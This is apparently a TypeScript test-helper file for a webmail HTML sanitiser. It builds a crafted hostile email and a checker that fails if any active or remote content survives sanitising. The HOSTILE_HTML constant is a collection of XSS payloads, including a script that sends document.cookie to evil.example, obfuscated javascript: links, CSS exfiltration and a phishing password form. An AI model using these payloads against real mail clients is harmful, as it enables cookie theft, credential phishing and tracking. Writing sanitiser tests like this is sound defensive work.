// A webmail context for a mailbox of a test server's real services, the crafted hostile
// HTML message of the sanitiser tests, and a check that sanitised HTML can run nothing and load
// nothing remote.
import assert from 'node:assert/strict';
import type { Services } from '../../src/main.ts';
import type { Mailbox } from '../../src/identity/types.ts';
import type { WebmailContext } from '../../src/mail/webmail/types.ts';

export async function webmailContext(services: Services, address: string, actor = `persoon+${address}`): Promise<WebmailContext> {
  const mailbox: Mailbox | null = await services.store.accounts.findMailbox({ address });
  assert.ok(mailbox, `no mailbox ${address}`);
  return { mailbox, actor, remoteAddress: '192.0.2.10' };
}

/** A 1×1 PNG, the inline image of the crafted message. */
export const PIXEL_PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** Every trick a hostile HTML message plays: script, handlers, javascript: links, CSS exfiltration,
 * remote images in every form, a meta refresh, a form, frames and objects, SVG with script — and a
 * cid: image that must come out as the message's own inline part. */
export const HOSTILE_HTML = `<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url(https://evil.example/import.css); body { background: url(https://evil.example/style-bg.png) }
input[value^="a"] { background: url(https://evil.example/leak?a) }</style>
<script src="https://evil.example/x.js"></script>
<script>document.location = 'https://evil.example/steal?' + document.cookie</script>
</head>
<body onload="alert('onload')" background="https://evil.example/body-bg.png">
<p id="greeting" onclick="alert('click')" onmouseover="alert('hover')">Geachte collega, zie de uitslag.</p>
<a href="javascript:alert('js')">javascript link</a>
<a href="  JaVaScRiPt:alert('case')">mixed case</a>
<a href="jav&#x09;ascript:alert('entity')">entity obfuscated</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<a href="vbscript:msgbox(1)">vbscript</a>
<a href="https://zorg.example/info">a safe link</a>
<img src="https://evil.example/pixel.gif" width="1" height="1" alt="">
<img src="http://evil.example/plain-http.gif" onerror="alert('onerror')">
<img src="//evil.example/protocol-relative.gif">
<img srcset="https://evil.example/srcset-1x.png 1x, https://evil.example/srcset-2x.png 2x">
<img src="cid:logo@zorgpost.test" alt="logo">
<img src="/api/webmail/mailboxes/1/folders/1/messages/1/raw">
<picture><source srcset="https://evil.example/picture.webp"><img src="https://evil.example/picture.png"></picture>
<div style="background-image: url('https://evil.example/div-bg.png'); color: #333">styled text</div>
<div style="width: expression(alert('ie'))">old IE</div>
<span style="background: u\\72 l(https://evil.example/escaped.png)">escaped url</span>
<table background="https://evil.example/table-bg.png"><tr><td background="https://evil.example/td-bg.png">cell</td></tr></table>
<form action="https://evil.example/phish" method="post"><input name="password" type="password"><button formaction="https://evil.example/b">Inloggen</button></form>
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
<object data="https://evil.example/object.swf"></object>
<embed src="https://evil.example/embed.swf">
<video poster="https://evil.example/poster.png" src="https://evil.example/video.mp4"></video>
<audio src="https://evil.example/audio.mp3"></audio>
<svg onload="alert('svg')"><script>alert('svg script')</script><image href="https://evil.example/svg-image.png"/></svg>
<math><maction actiontype="statusline" xlink:href="javascript:alert('math')">m</maction></math>
<isindex action="https://evil.example/isindex">
<p>Met vriendelijke groet, Dr. Jansen</p>
</body></html>`;

/** The crafted message: HTML with an inline image, a text alternative and a PDF attachment. */
export function hostileMessage(from: string, to: string): Buffer {
  const b64 = (bytes: Buffer) => bytes.toString('base64').replace(/.{76}/g, '$&\r\n');
  return Buffer.from(
    [
      `From: "Evil" <${from}>`,
      `To: ${to}`,
      'Subject: =?utf-8?q?Uitslag_onderzoek_=E2=9C=93?=',
      'Date: Tue, 02 Jan 2024 10:00:00 +0100',
      'Message-ID: <hostile-1@evil.example>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="outer"',
      '',
      '--outer',
      'Content-Type: multipart/related; boundary="related"',
      '',
      '--related',
      'Content-Type: multipart/alternative; boundary="alt"',
      '',
      '--alt',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'Geachte collega, zie de uitslag.',
      '--alt',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      b64(Buffer.from(HOSTILE_HTML)),
      '--alt--',
      '--related',
      'Content-Type: image/png',
      'Content-Transfer-Encoding: base64',
      'Content-ID: <logo@zorgpost.test>',
      'Content-Disposition: inline',
      '',
      b64(PIXEL_PNG),
      '--related--',
      '--outer',
      'Content-Type: application/pdf; name="uitslag.pdf"',
      'Content-Transfer-Encoding: base64',
      'Content-Disposition: attachment; filename="uitslag.pdf"',
      '',
      b64(Buffer.from('%PDF-1.4\n% test document\n%%EOF\n')),
      '--outer--',
      '',
    ].join('\r\n'),
  );
}

/** Fails unless the sanitised HTML has no active content and no reference to anything remote; image
 * sources are data: images, or this API's own part URLs when `ownImages` says what they look like. */
export function assertInert(html: string, options: { ownImages?: RegExp } = {}): void {
  for (const tag of ['script', 'style', 'iframe', 'frame', 'object', 'embed', 'form', 'input', 'button', 'meta', 'link', 'base', 'svg', 'math', 'video', 'audio', 'source', 'picture', 'isindex', 'image']) {
    assert.doesNotMatch(html, new RegExp(`<${tag}\\b`, 'i'), `<${tag}> left in`);
  }
  for (const [, tag, attributes] of html.matchAll(/<([a-z][a-z0-9]*)\b([^>]*)>/gi)) {
    for (const [, name, value] of attributes!.matchAll(/([^\s=/"]+)\s*=\s*"([^"]*)"/g)) {
      assert.doesNotMatch(name!, /^on/i, `event handler ${name} on <${tag}>`);
      assert.ok(!['srcset', 'background', 'formaction', 'action', 'poster', 'srcdoc', 'xlink:href'].includes(name!.toLowerCase()), `${name} on <${tag}>`);
      if (name === 'src' && !options.ownImages?.test(value!)) assert.match(value!, /^data:image\//, `<${tag} src="${value}">`);
      if (name === 'href') assert.match(value!, /^(?:https?:|mailto:|tel:|#)/i, `<${tag} href="${value}">`);
      if (name === 'style') assert.doesNotMatch(value!, /url|expression|\\|@import/i, `style="${value}"`);
    }
  }
  assert.doesNotMatch(html, /javascript:|vbscript:/i);
  assert.doesNotMatch(html, /evil\.example/, "a reference to the remote host");
}
